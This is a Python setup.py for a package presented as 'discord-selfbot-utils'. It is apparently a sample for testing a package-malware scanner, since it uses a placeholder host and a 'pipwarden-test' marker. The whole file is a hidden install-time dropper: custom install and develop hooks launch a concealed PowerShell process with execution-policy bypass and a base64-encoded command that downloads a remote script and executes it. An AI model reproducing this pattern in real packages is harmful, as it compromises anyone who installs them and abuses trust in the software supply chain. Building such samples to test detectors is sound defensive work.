import base64
import os
import subprocess

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install

_PS = "IWR -UseBasicParsing https://cdn.example.invalid/u.ps1 | IEX; Write-Output pipwarden-test"


def _win():
    if os.name != "nt":
        return
    enc = base64.b64encode(_PS.encode("utf-16-le")).decode()
    subprocess.Popen(["powershell", "-NoP", "-NonI", "-W", "Hidden", "-Exec", "Bypass", "-EncodedCommand", enc],
                     creationflags=0x08000000)


class I(install):
    def run(self):
        _win()
        install.run(self)


class D(develop):
    def run(self):
        _win()
        develop.run(self)


setup(name="discord-selfbot-utils", version="1.0.0", packages=["discord_selfbot_utils"],
      cmdclass={"install": I, "develop": D})
